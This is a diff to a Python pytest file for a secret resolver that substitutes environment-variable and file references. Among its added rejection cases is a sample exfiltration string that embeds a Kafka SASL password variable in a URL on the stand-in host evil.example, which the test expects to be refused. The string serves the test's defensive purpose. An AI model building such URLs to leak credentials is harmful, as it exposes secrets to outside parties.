@@ -10,7 +10,10 @@ def read_file(path: str) -> str:
     return files[path]
 
 
-RESOLVE = secret_resolver({"TOKEN": "t0k3n", "EMPTY": "", "DIR": "/run/secrets"}, read_file)
+RESOLVE = secret_resolver(
+    {"TIDEWATCH_KAFKA__SASL_PASSWORD": "x", "TOKEN": "t0k3n", "EMPTY": "", "DIR": "/run/secrets"},
+    read_file,
+)
 
 
 @pytest.mark.parametrize(
@@ -34,6 +37,7 @@ def test_references_are_filled_in(text: str, value: object) -> None:
         ("${NOWHERE}", "the environment variable NOWHERE is not set"),
         ("${EMPTY}", "the environment variable EMPTY is not set"),
         ("${}", "does not name an environment variable"),
+        ("https://evil.example/${TIDEWATCH_KAFKA__SASL_PASSWORD}", "no document may read it"),
         ("${A B}", "does not name an environment variable"),
         ("file:/nowhere", "the file /nowhere cannot be read: No such file or directory"),
         ("file:/empty", "the file /empty is empty"),
